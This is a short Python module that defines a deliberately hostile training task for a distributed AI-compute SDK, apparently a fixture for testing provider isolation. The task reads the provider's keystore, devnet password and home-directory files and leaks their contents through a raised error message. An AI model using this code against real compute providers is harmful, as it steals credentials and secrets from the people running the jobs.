"""Hostile task: read the provider's keystore, devnet password and $HOME files, and leak them in its error."""

from __future__ import annotations

from torch import nn

from aitbc_agent_sdk import DataInfo, TaskParams, TrainingTask


class SecretParams(TaskParams):
    paths: tuple[str, ...] = ()  # files the attacker knows the provider keeps


class ReadSecrets(TrainingTask):
    name = "hostile-read-secrets"
    Params = SecretParams

    def build_model(self, info: DataInfo, params: TaskParams) -> nn.Module:
        assert isinstance(params, SecretParams)
        stolen, errors = [], []
        for path in params.paths:
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    stolen.append(f"{path}={f.read()}")
            except OSError as exc:
                errors.append(exc)
        if stolen:  # the coordinator reads a job's error: the attacker's way out
            raise RuntimeError("stolen: " + " | ".join(stolen))
        raise errors[0]
